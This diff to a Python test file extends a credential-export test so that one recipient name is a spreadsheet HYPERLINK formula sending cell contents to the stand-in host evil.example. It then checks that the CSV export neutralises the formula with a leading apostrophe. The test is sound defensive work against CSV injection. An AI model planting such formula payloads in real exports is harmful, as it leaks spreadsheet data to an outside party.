@@ -282,6 +282,9 @@ def test_staff_export_the_filtered_list_as_csv_streamed_and_audited(
     assert [row["credential_id"] for row in csv.DictReader(io.StringIO(download.text))] == [ids[1]]
 
 
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+
+
 def test_the_export_reads_on_across_batches(
     sessions: sessionmaker[Session], world: World, definition_id: str, settings: Settings
 ) -> None:
@@ -290,6 +293,7 @@ def test_the_export_reads_on_across_batches(
             service.issue_credential(
                 session, None, settings=settings, definition_id=definition_id,
                 recipient_email=f"batch{number}@example.org", results=[{"level": "Competent"}],
+                recipient_name=FORMULA if number == 0 else f"Learner {number}",
             ).id
             for number in range(7)
         ]  # fmt: skip
@@ -300,5 +304,9 @@ def test_the_export_reads_on_across_batches(
         chunks = list(service.export_credentials_csv(session, export, settings.base_url, batch=2))
         listed = service.credentials_of_issuer(session, None, "north-college", per_page=10)
     assert len(chunks) == 4  # 2 + 2 + 2 + 1 rows
-    exported = [row["credential_id"] for row in csv.DictReader(io.StringIO("".join(chunks)))]
+    rows = list(csv.DictReader(io.StringIO("".join(chunks))))
+    exported = [row["credential_id"] for row in rows]
     assert exported == [row.id for row in listed.items] and sorted(exported) == sorted(made)
+    # a name a spreadsheet would run as a formula comes out as text (CSV injection)
+    names = {row["credential_id"]: row["recipient_name"] for row in rows}
+    assert names[made[0]] == "'" + FORMULA and names[made[1]] == "Learner 1"
